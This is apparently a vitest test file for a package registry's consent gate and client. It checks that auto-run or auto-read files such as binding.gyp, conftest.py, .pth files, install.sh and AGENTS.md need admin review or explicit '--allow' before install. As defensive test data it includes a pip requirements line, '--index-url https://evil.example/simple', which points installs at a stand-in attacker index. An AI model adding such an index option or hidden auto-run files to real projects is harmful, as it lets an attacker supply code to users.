/** The real gate and the real client, with samples of what a program runs or reads by itself. */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { apply, plan } from '../../client/library.ts';
import { GitFixture, build } from '../generate/git-fixture.ts';
import { Session } from '../client/mcp-session.ts';
import { makeProject, readProject, serveRegistry, stackyard } from '../client/registry-fixture.ts';
import { GateFixture, codes } from '../publish/gate-fixture.ts';
import { NAMED_FILES } from './named-files.ts';

/** One of each class below `src/mod`, and what merged and installed without a question before. */
const SAMPLE = `
  binding.gyp npm-shrinkwrap.json docker-compose.override.yml pnpm-workspace.yaml uv.toml
  netlify.toml .cirrus.yml crush.json .zed/settings.json requirements/prod.txt src/mod/pylintrc
  src/mod/jest.config.cjs src/mod/vite.config.mts src/mod/conftest.py src/mod/package.json
  src/mod/tsconfig.json src/mod/x.pth src/mod/Makefile src/mod/install.sh src/mod/x.node
  src/mod/model.pkl src/mod/.x.ts src/mod/AGENTS.md server.js
`
  .trim()
  .split(/\s+/);
const NAMED = NAMED_FILES.filter(({ path }) => SAMPLE.includes(path));
const TEXTS = Object.fromEntries(SAMPLE.map((path) => [path, '\n']));
/** Without the files of the fixture, which are at the root. */
const FILES = { files: ['**', '!LICENSE', '!README.md', '!src/index.ts'] };

const GUIDE = `# Steps

1. **List**: add to your requirements.

   \`\`\`text wire lines deps/prod.txt
   --index-url https://evil.example/simple
   \`\`\`
`;

describe('the gate', () => {
  it('leaves each of the sample to an admin, and names it with what it can do', async () => {
    const fixture = new GateFixture();
    const verdict = await fixture.propose(build('alice/web-forms', '1.1.0', FILES, TEXTS));
    expect(verdict.reasons.filter(({ level }) => level === 'refuse')).toEqual([]);
    expect(verdict.verdict).toBe('review');
    const consent = verdict.reasons.filter(({ code }) => code === 'gate-consent');
    expect(NAMED).toHaveLength(SAMPLE.length);
    for (const { path, class: name } of NAMED) {
      const own = consent.filter(({ message }) => message.includes(`("${name}"): `));
      expect([path, own.length]).toEqual([path, 1]);
      expect(own[0]?.message.split(/: |, |\. /)).toContain(path);
    }
  });

  it('leaves wired options of pip to an admin, and refuses them in a manifest', async () => {
    const options = { base: 'src/x', files: ['src/**'] };
    const propose = async (guide: string): Promise<string[]> => {
      const files = { 'INTEGRATION.md': guide };
      return codes(
        await new GateFixture().propose(build('alice/web-forms', '1.1.0', options, files)),
      );
    };
    expect(await propose(GUIDE)).toEqual(['gate-consent']);
    expect(await propose(GUIDE.replace('deps/prod.txt', 'requirements/prod.txt'))).toContain(
      'wiring-target',
    );
  });
});

describe('the client', () => {
  let url: string;
  let project: string;

  beforeEach(async () => {
    const git = new GitFixture();
    git.commit(build('a/evil', '1.0.0', FILES, TEXTS));
    git.commit(
      build(
        'a/wired',
        '1.0.0',
        { base: 'src/wired', files: ['src/**'] },
        { 'INTEGRATION.md': GUIDE },
      ),
    );
    ({ url } = await serveRegistry(git));
    project = makeProject();
  });

  async function run(...args: string[]): Promise<{ status: number | null; error: any; data: any }> {
    const place = ['-C', project, '--no-input', '--json'];
    const from = args[0] === 'add' ? ['--registry', url, '--no-install'] : [];
    const { status, stdout } = await stackyard([...args, ...from, ...place]);
    const { error, data } = JSON.parse(stdout) as { error: unknown; data: unknown };
    return { status, error, data };
  }

  it('add writes nothing of the sample without the option that the hint has', async () => {
    const before = readProject(project);
    const refused = await run('add', 'a/evil');
    expect([refused.error.code, refused.status]).toEqual(['ERR_CONSENT', 6]);
    for (const path of SAMPLE) expect(refused.error.message).toContain(path);
    expect(readProject(project)).toEqual(before);
    const [, classes = ''] = /--allow (\S+)$/.exec(refused.error.hint) ?? [];
    expect(classes.split(',')).toEqual([...new Set(NAMED.map((one) => one.class))].sort());
    expect((await run('add', 'a/evil', '--yes')).status).toBe(6);
    expect((await run('add', 'a/evil', '--allow', classes)).status).toBe(0);
    for (const path of SAMPLE) expect(existsSync(join(project, path))).toBe(true);
  });

  it('wire asks for lines that are options of pip', async () => {
    const refused = await run('add', 'a/wired', '--wire');
    expect([refused.status, refused.error.message]).toEqual([
      6,
      expect.stringContaining('packages: deps/prod.txt'),
    ]);
    expect((await run('add', 'a/wired')).status).toBe(0);
    const again = await run('add', '--wire', 'a/wired');
    expect([again.status, again.error.hint]).toEqual([6, expect.stringContaining('packages')]);
    expect(existsSync(join(project, 'deps/prod.txt'))).toBe(false);
    expect((await run('add', '--wire', 'a/wired', '--allow', 'deps/prod.txt')).status).toBe(0);
    expect(readProject(project)['deps/prod.txt']).toContain('--index-url');
  });

  it('mcp lists it in the plan, and refuses a plan without "allow"', async () => {
    const session = await Session.open(project, url);
    const values = { builds: ['a/evil'] };
    const planned = await session.call('plan', { action: 'add', ...values });
    const { plan_hash, plan: made } = planned.data as { plan_hash: string; plan: { consent: [] } };
    expect(made.consent).toHaveLength(SAMPLE.length);
    const refused = await session.call('apply', { plan_hash });
    expect(refused.error).toMatchObject({ code: 'ERR_CONSENT' });
    const other = await session.call('apply', { allow: ['all'], plan_hash });
    expect(other.error).toMatchObject({ code: 'ERR_USAGE' });
    const allowed = { ...values, allow: ['all'] };
    const again = await session.call('plan', { action: 'add', ...allowed });
    const done = await session.call('apply', { plan_hash: again.data!['plan_hash'] });
    expect(done).toMatchObject({ ok: true });
  });

  it('the library refuses to apply what is not allowed', async () => {
    const prepared = await plan(project, ['a/evil'], { registry: url });
    expect(prepared.plan.consent).toHaveLength(SAMPLE.length);
    await expect(apply(prepared)).rejects.toMatchObject({ code: 'ERR_CONSENT' });
    expect(Object.keys(readProject(project))).toEqual(['package.json']);
    await apply(await plan(project, ['a/evil'], { registry: url, allow: ['all'] }));
    expect(existsSync(join(project, 'binding.gyp'))).toBe(true);
  });
});
